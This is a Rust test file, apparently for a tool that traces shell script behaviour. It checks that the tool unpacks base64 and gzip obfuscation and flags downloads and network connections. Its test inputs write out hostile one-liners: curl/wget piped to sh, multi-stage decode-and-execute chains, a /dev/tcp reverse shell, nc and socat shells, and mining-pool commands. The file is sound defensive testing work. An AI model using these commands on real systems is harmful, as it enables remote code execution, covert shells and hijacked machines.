use super::*;

fn base64(text: &str) -> String {
    data_encoding::BASE64.encode(text.as_bytes())
}

/// The last line of what a script does.
fn last(script: &str) -> String {
    let path = Fixture::new().file("entry.sh", script, 0o755).start(&["/entry.sh"], &[]).follow();
    lines(&path).pop().unwrap_or_default()
}

#[test]
fn encoded_text_that_is_run_is_read() {
    let inner = base64("miner -o stratum+tcp://pool.example.test:3333");
    for script in [
        format!("echo {inner} | base64 -d | sh"),
        format!("bash -c \"$(echo {inner} | base64 --decode)\""),
        format!("eval $(echo '{inner}'|base64 -d)"),
        format!("eval \"`echo {inner} | base64 -d`\""),
        format!("X={inner}; base64 -d <<< $X | bash"),
        format!("bash <<< \"$(base64 -d <<<{inner})\""),
        format!("sh <(echo {inner} | base64 -d)"),
        format!("echo {inner} | openssl base64 -d | sh"),
        format!("printf '%s' {inner} | base64 -d > /tmp/.x; chmod +x /tmp/.x; /tmp/.x"),
        format!("source <(echo {inner} | base64 -d)"),
        format!("echo {} | rev | base64 -d | sh", inner.chars().rev().collect::<String>()),
        format!("echo {} | base64 -d | base64 -d | sh", base64(&inner)),
        format!("cat <<E | base64 -d | sh\n{inner}\nE\n"),
        format!("P=$(mktemp); echo {inner} | base64 -d > $P && sh $P"),
    ] {
        assert_eq!(
            last(&script),
            "net pool.example.test:3333 stratum+tcp://pool.example.test:3333",
            "{script}"
        );
    }
}

#[test]
fn five_stages_are_peeled() {
    let mut text = "curl http://192.0.2.7/a".to_owned();
    for _ in 0..5 {
        text = format!("echo {} | base64 -d | sh", base64(&text));
    }
    assert_eq!(last(&text), "net 192.0.2.7 http://192.0.2.7/a");
}

#[test]
fn text_tools_are_computed() {
    for (script, expected) in [
        ("p $(echo 6869 | xxd -r -p)", "run p hi"),
        ("p $(echo uryyb | tr a-z n-za-m)", "run p hello"),
        ("p $(echo a:b:c | cut -d: -f2)", "run p b"),
        ("p $(printf '\\x68\\151')", "run p hi"),
        ("p $(echo 'x y z' | awk '{print $2}')", "run p y"),
        ("p $(echo hello | sed 's/l\\+/L/')", "run p heLo"),
        ("p $(printf 'a\\nb\\nc\\n' | tail -n 2 | head -1)", "run p b"),
        ("p $(echo h-e-y | tr -d -)", "run p hey"),
        ("a=cu;b=rl; $a$b -V", "run curl -V"),
        ("p $(dirname /a/b/c) $(basename /a/b.sh .sh)", "run p /a/b b"),
        ("p $(printf 'x\\nkey=v\\n' | grep key | cut -d= -f2)", "run p v"),
        ("c''u\"\"r\\l -V", "run curl -V"),
        ("p${IFS}a", "run p a"),
        ("$(echo p) x", "run p x"),
    ] {
        assert_eq!(last(script), expected, "{script}");
    }
}

#[test]
fn a_gzipped_payload_is_unpacked() {
    use std::io::Write;
    let mut packed = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    packed.write_all(b"wget http://198.51.100.9/i").unwrap();
    let text = data_encoding::BASE64.encode(&packed.finish().unwrap());
    assert_eq!(last(&format!("echo {text} | base64 -d | gunzip | sh")), "write /i");
}

#[test]
fn downloads_are_remembered_until_they_run() {
    check(
        "curl -s http://192.0.2.1/x.sh | bash",
        "run curl -s http://192.0.2.1/x.sh
         net 192.0.2.1 http://192.0.2.1/x.sh
         run bash <- curl from http://192.0.2.1/x.sh",
    );
    for (script, expected) in [
        (
            "curl -sSLo /tmp/a http://192.0.2.1/a; chmod +x /tmp/a; /tmp/a -x",
            "run /tmp/a -x from http://192.0.2.1/a",
        ),
        ("wget -q http://192.0.2.1/a && sh a", "run sh a from http://192.0.2.1/a"),
        ("wget -qO- http://192.0.2.1/a | sh", "run sh <- wget from http://192.0.2.1/a"),
        ("wget -O /t http://192.0.2.1/a; mv /t /u; /u", "run /u from http://192.0.2.1/a"),
        (
            "bash <(curl -s http://192.0.2.1/a)",
            "run bash [<(curl -s http://192.0.2.1/a)] from http://192.0.2.1/a",
        ),
        (
            "sh -c \"$(curl -fsSL http://192.0.2.1/a)\"",
            "run sh -c [$(curl -fsSL http://192.0.2.1/a)] from http://192.0.2.1/a",
        ),
        (
            "eval \"$(wget -qO- http://192.0.2.1/a)\"",
            "run eval [$(wget -qO- http://192.0.2.1/a)] <- wget from http://192.0.2.1/a",
        ),
        ("curl http://192.0.2.1/a > /a; chmod 755 /a; nohup /a &", "run /a from http://192.0.2.1/a"),
        (
            "cd /tmp; curl -O http://192.0.2.1/b.tgz; tar xzf b.tgz; ./b/run",
            "run ./b/run from http://192.0.2.1/b.tgz",
        ),
        ("curl -s http://192.0.2.1/a | base64 -d | sh", "run sh <- base64 <- curl from http://192.0.2.1/a"),
        ("curl -s http://192.0.2.1/p.py | python3 -", "run python3 - <- curl from http://192.0.2.1/p.py"),
        ("git clone http://192.0.2.1/r.git; cd r; ./go", "run ./go from http://192.0.2.1/r.git"),
        ("X=$(curl -s http://192.0.2.1/a); echo \"$X\" | sh", "run sh <- echo from http://192.0.2.1/a"),
        ("busybox wget -O- http://192.0.2.1/a | busybox sh", "run sh <- busybox from http://192.0.2.1/a"),
        (
            "(curl -s http://192.0.2.1/a || wget -qO- http://192.0.2.1/a) | sh",
            "run sh <- curl <- wget from http://192.0.2.1/a",
        ),
    ] {
        assert_eq!(last(script), expected, "{script}");
    }
}

#[test]
fn shells_over_the_network_are_connections() {
    check(
        "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
        "net 192.0.2.1:4444\nrun bash -i <- /dev/tcp/192.0.2.1/4444",
    );
}

#[test]
fn network_tools_connect() {
    for (script, expected) in [
        ("nc -e /bin/sh 192.0.2.1 4444", "run /bin/sh <- nc"),
        ("nc 192.0.2.1 4444 -e sh", "run sh <- nc"),
        ("ncat 192.0.2.1 4444", "net 192.0.2.1:4444"),
        ("socat TCP:192.0.2.1:443 EXEC:/bin/sh", "run /bin/sh <- socat"),
        ("ssh -i /k -R 1:2:3 root@192.0.2.1", "net 192.0.2.1"),
        ("curl example.test:8080/x", "net example.test:8080 http://example.test:8080/x"),
        ("telnet 192.0.2.1 23", "net 192.0.2.1:23"),
        ("exec 3<>/dev/tcp/192.0.2.1/80", "net 192.0.2.1:80"),
        (
            "miner -o stratum+ssl://pool.example.test:443 -u x",
            "net pool.example.test:443 stratum+ssl://pool.example.test:443",
        ),
        ("openssl s_client -connect 192.0.2.1:99", "net 192.0.2.1:99"),
    ] {
        assert_eq!(last(script), expected, "{script}");
    }
}
